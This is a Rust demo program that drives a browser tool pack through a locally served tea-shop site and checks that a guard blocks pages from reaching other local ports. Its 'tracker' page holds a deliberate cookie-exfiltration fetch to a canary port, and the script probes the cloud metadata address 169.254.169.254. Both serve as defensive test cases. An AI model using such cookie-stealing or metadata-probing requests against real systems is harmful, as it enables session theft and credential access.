//! `tabwright demo`: a small shop served on 127.0.0.1, driven through the
//! tool pack exactly as a model would drive it: read the page, fill a form,
//! follow a link into a new tab, answer a dialog, save a numbered
//! screenshot, and watch the guard refuse a page that reaches for another
//! port of this machine. Only the shop's own origin is allowed.

use std::convert::Infallible;
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;
use std::time::Instant;

use bytes::Bytes;
use http_body_util::Full;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use serde_json::{json, Value};
use tokio::net::TcpListener;
use tools::{Pack, ToolOutput};

use crate::BrowserArgs;

const HOME: &str = r#"<!doctype html><html><head><title>Tabwright Tea Shop</title></head><body>
<h1>Tabwright Tea Shop</h1>
<p>Fresh leaves, shipped weekly.</p>
<form action="/order" method="get">
  <p><label>Your name <input name="name" required></label></p>
  <p><label>Tea <select name="tea"><option>Sencha</option><option>Assam</option><option>Rooibos</option></select></label></p>
  <p><label><input type="checkbox" name="gift"> Gift wrap</label></p>
  <p><button type="submit">Place order</button></p>
</form>
<p><a href="/journal" target="_blank">Read the tea journal</a> (opens a new tab)</p>
<p><button onclick="document.getElementById('basket').textContent = confirm('Empty your basket?') ? 'Basket emptied.' : 'Basket kept.'">Empty basket</button></p>
<p id="basket"></p>
<p><a href="/tracker">Our partners</a></p>
</body></html>"#;

const ORDER: &str = r#"<!doctype html><html><head><title>Order placed</title></head><body>
<h1>Order placed</h1><p id="summary"></p><p><a href="/">Back to the shop</a></p>
<script>
  const query = new URLSearchParams(location.search);
  document.getElementById('summary').textContent = 'Thank you, ' + query.get('name') + ': one ' +
    query.get('tea') + (query.get('gift') ? ', gift wrapped.' : '.');
</script></body></html>"#;

const JOURNAL: &str = r#"<!doctype html><html><head><title>The Tea Journal</title></head><body>
<h1>The Tea Journal</h1><h2>Why water temperature matters</h2>
<p>Green teas scorch above 80 °C; black teas want it boiling.</p></body></html>"#;

/// `{CANARY}` becomes a port on this machine where nothing should arrive.
const TRACKER: &str = r#"<!doctype html><html><head><title>Our partners</title></head><body>
<h1>Our partners</h1><p>This page tries to reach another port of this machine.</p>
<img src="http://127.0.0.1:{CANARY}/pixel.gif" alt="">
<script>fetch('http://127.0.0.1:{CANARY}/collect?cookie=' + document.cookie).catch(() => {});</script>
</body></html>"#;

/// Runs the demo; fails if any step does not answer as it should.
pub async fn run(args: &BrowserArgs, screenshot: Option<PathBuf>) -> Result<(), String> {
    let started = Instant::now();
    let canary = Canary::start().await?;
    let tracker = TRACKER.replace("{CANARY}", &canary.port.to_string());
    let shop = serve(move |path| match path {
        "/" => Some(HOME.to_owned()),
        "/order" => Some(ORDER.to_owned()),
        "/journal" => Some(JOURNAL.to_owned()),
        "/tracker" => Some(tracker.clone()),
        _ => None,
    })
    .await?;
    let origin = format!("http://127.0.0.1:{shop}");
    println!("The shop is at {origin}/ (the only local origin the guard allows).\n");

    let pack = args.pack(std::slice::from_ref(&origin))?;
    let result = script(&pack, &origin, screenshot).await;
    pack.close().await;
    result?;

    let reached = canary.connections();
    println!(
        "The canary on 127.0.0.1:{} saw {reached} connection{}.",
        canary.port,
        if reached == 1 { "" } else { "s" }
    );
    if reached != 0 {
        return Err("a page reached a port the guard should have kept it from".to_owned());
    }
    println!("Demo finished in {:.1} s.", started.elapsed().as_secs_f64());
    Ok(())
}

/// The calls a model would make, checked as it would check them.
async fn script(pack: &Pack, origin: &str, screenshot: Option<PathBuf>) -> Result<(), String> {
    let page = step(pack, "open", json!({ "url": format!("{origin}/") })).await?;
    let name = number(&page.text, "\"Your name\"")?;
    let tea = number(&page.text, "\"Tea\"")?;
    let gift = number(&page.text, "\"Gift wrap\"")?;
    let order = number(&page.text, "\"Place order\"")?;

    step(pack, "type", json!({ "element": name, "text": "Ada" })).await?;
    step(
        pack,
        "select",
        json!({ "element": tea, "options": ["Assam"] }),
    )
    .await?;
    step(pack, "click", json!({ "element": gift })).await?;
    let placed = step(pack, "click", json!({ "element": order })).await?;
    expect(&placed, "Thank you, Ada: one Assam, gift wrapped.")?;
    // Back on the shop, a new document: its elements have new numbers.
    let page = step(pack, "back", json!({})).await?;
    let journal = number(&page.text, "\"Read the tea journal\"")?;
    let basket = number(&page.text, "\"Empty basket\"")?;

    let opened = step(pack, "click", json!({ "element": journal })).await?;
    expect(&opened, "A new tab opened")?;
    let read = step(pack, "tabs", json!({ "action": "switch", "tab": 2 })).await?;
    expect(&read, "Why water temperature matters")?;
    step(pack, "tabs", json!({ "action": "close" })).await?;

    let asked = step(pack, "click", json!({ "element": basket })).await?;
    expect(&asked, "Empty your basket?")?;
    let answered = step(pack, "dialog", json!({ "accept": true })).await?;
    expect(&answered, "Basket emptied.")?;

    let shot = step(pack, "screenshot", json!({ "numbers": true })).await?;
    let image = shot.images.first().ok_or("the screenshot has no picture")?;
    let path = screenshot.unwrap_or_else(|| std::env::temp_dir().join("tabwright-demo.png"));
    std::fs::write(&path, &image.data)
        .map_err(|error| format!("cannot save the screenshot to {}: {error}", path.display()))?;
    println!(
        "(the numbered screenshot, {} bytes, is saved to {})\n",
        image.data.len(),
        path.display()
    );

    let tracked = step(pack, "open", json!({ "url": format!("{origin}/tracker") })).await?;
    expect(&tracked, "The guard refused")?;
    let outside = step(
        pack,
        "open",
        json!({ "url": "http://169.254.169.254/latest/meta-data/" }),
    )
    .await;
    match outside {
        Err(problem) if problem.contains("Refused") => {}
        other => return Err(format!("the metadata address was not refused: {other:?}")),
    }
    Ok(())
}

/// One tool call, printed as the model would send and read it.
async fn step(pack: &Pack, tool: &str, arguments: Value) -> Result<ToolOutput, String> {
    println!("> {tool} {arguments}");
    let started = Instant::now();
    let output = pack.call(tool, arguments).await;
    let took = started.elapsed().as_millis();
    for line in output.text.lines() {
        println!("  {line}");
    }
    for image in &output.images {
        println!(
            "  [{} picture, {} bytes]",
            image.mime_type,
            image.data.len()
        );
    }
    println!("  ({took} ms)\n");
    if output.is_error {
        return Err(output.text);
    }
    Ok(output)
}

fn expect(output: &ToolOutput, text: &str) -> Result<(), String> {
    if output.text.contains(text) {
        Ok(())
    } else {
        Err(format!("expected {text:?} in the answer"))
    }
}

/// The number of the element whose line holds `needle`, as a model reads it.
fn number(snapshot: &str, needle: &str) -> Result<u32, String> {
    tools::element_number(snapshot, needle)
        .ok_or_else(|| format!("no numbered element {needle} in the snapshot"))
}

/// A listener on a free loopback port, and the port; `what` says what for,
/// should it fail.
async fn listen(what: &str) -> Result<(TcpListener, u16), String> {
    let listener = TcpListener::bind("127.0.0.1:0")
        .await
        .map_err(|error| format!("cannot {what}: {error}"))?;
    let port = listener
        .local_addr()
        .map_err(|error| format!("cannot {what}: {error}"))?
        .port();
    Ok((listener, port))
}

/// Serves `page(path)` as HTML on a free loopback port; 404 otherwise.
async fn serve(
    page: impl Fn(&str) -> Option<String> + Send + Sync + 'static,
) -> Result<u16, String> {
    let (listener, port) = listen("serve the demo site").await?;
    let page = Arc::new(page);
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let page = page.clone();
            tokio::spawn(async move {
                let service =
                    hyper::service::service_fn(move |request: Request<hyper::body::Incoming>| {
                        let found = page(request.uri().path());
                        async move {
                            let (status, body) = match found {
                                Some(body) => (200, body),
                                None => (404, "<h1>Not found</h1>".to_owned()),
                            };
                            let mut response = Response::new(Full::new(Bytes::from(body)));
                            *response.status_mut() =
                                hyper::StatusCode::from_u16(status).unwrap_or_default();
                            response.headers_mut().insert(
                                hyper::header::CONTENT_TYPE,
                                hyper::header::HeaderValue::from_static("text/html; charset=utf-8"),
                            );
                            Ok::<_, Infallible>(response)
                        }
                    });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(stream), service)
                    .await;
            });
        }
    });
    Ok(port)
}

/// A loopback port that counts who connects: nothing should.
struct Canary {
    port: u16,
    hits: Arc<AtomicUsize>,
}

impl Canary {
    async fn start() -> Result<Self, String> {
        let (listener, port) = listen("start the canary").await?;
        let hits = Arc::new(AtomicUsize::new(0));
        let counter = hits.clone();
        tokio::spawn(async move {
            while let Ok((_stream, _)) = listener.accept().await {
                counter.fetch_add(1, Ordering::SeqCst);
            }
        });
        Ok(Self { port, hits })
    }

    fn connections(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}
